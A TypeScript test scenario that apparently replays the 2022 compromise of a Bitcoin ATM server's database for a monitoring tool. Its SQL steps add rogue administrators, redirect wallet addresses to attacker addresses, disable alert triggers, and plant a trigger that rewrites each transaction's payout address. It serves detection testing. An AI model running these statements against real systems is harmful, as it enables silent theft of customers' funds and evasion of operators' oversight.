import type { AttackStep, BoughtTerminal } from '../scenario.js';

/** Invented, but for the first: it is an address of the 2023 robbery, published by the vendor. The second is nobody's, with a right checksum. */
export const ATTACKER = {
  sellAddress: 'bc1qfa8pryacrjuzp9287zc2ufz5n0hdthff0av440',
  invalidPaymentAddress: 'bc1qt5g7lc2af3vu89gr0ad80z4rmewnwcd0aca00d',
  email: 'billing@cas-support.example',
} as const;

const addAdministrator = (login: string) =>
  `insert into public.cas_user (login, password_hash, person_id, group_id)
   select '${login}', 'x', min(id), (select id from public.user_group where name = 'Administrator') from public.person`;

/**
 * August 2022 (CVE-2022-4980), by the vendor's own report: an administrator added, sell and invalid-payment addresses changed, terminal
 * BT123456 added, a person's e-mail changed. The last three steps are what the same attacker could do against a monitor.
 */
export const ATTACK: readonly AttackStep[] = [
  {
    name: 'administrator-added',
    story: 'The forgotten setup page is called: the administrator "gb" appears.',
    sql: addAdministrator('gb'),
    collection: 'admin_users',
    evidence: '“gb”',
    silenced: false,
  },
  {
    name: 'sell-address-changed',
    story: "The address that takes customers' BTC is changed.",
    sql: `update public.crypto_setting set sell_wallet_address = '${ATTACKER.sellAddress}' where id = 1`,
    collection: 'wallet_routes',
    evidence: ATTACKER.sellAddress,
    silenced: false,
  },
  {
    name: 'invalid-payment-address-changed',
    story: 'The address that takes invalid payments is changed.',
    sql: `update public.crypto_setting set invalid_payment_address = '${ATTACKER.invalidPaymentAddress}' where id = 1`,
    collection: 'wallet_routes',
    evidence: ATTACKER.invalidPaymentAddress,
    silenced: false,
  },
  {
    name: 'terminal-added',
    story: 'Terminal BT123456 appears.',
    sql: `insert into public.terminal (serial_number, name, type, location_id) values ('BT123456', 'ATM', 'BATMThree', 1)`,
    collection: 'terminals',
    evidence: '“BT123456”',
    silenced: false,
  },
  {
    name: 'email-changed',
    story: "A person's e-mail address is changed.",
    sql: `update public.person set email = '${ATTACKER.email}' where id = 2`,
    collection: 'persons',
    evidence: ATTACKER.email,
    silenced: false,
  },
  {
    name: 'trigger-disabled',
    story: 'The notification is silenced: the triggers on the table of users are disabled.',
    sql: 'alter table public.cas_user disable trigger user',
    collection: 'sensor_cas',
    evidence: 'cas_user',
    silenced: true,
  },
  {
    name: 'second-administrator-added',
    story: 'A second administrator, "gb-support", is added in silence.',
    sql: addAdministrator('gb-support'),
    collection: 'admin_users',
    evidence: '“gb-support”',
    silenced: true,
    atOnce: true,
  },
  {
    name: 'addresses-rewritten',
    story: 'A trigger on another table rewrites the address of each new transaction. No watched row changes.',
    sql: `create function public.tidy_address() returns trigger language plpgsql as $$
            begin new.address := '${ATTACKER.sellAddress}'; return new; end $$;
          create trigger tidy before insert on public.transaction for each row execute function public.tidy_address()`,
    collection: 'sensor_cas',
    evidence: 'tidy_address',
    silenced: true,
  },
];

/** A terminal the operator did buy. An approver accepts it and nothing else. */
export const LEGITIMATE: BoughtTerminal = {
  serialNumber: 'BT300123',
  sql: `insert into public.terminal (serial_number, name, type, location_id) values ('BT300123', 'Central Station', 'BATMFour', 2)`,
};
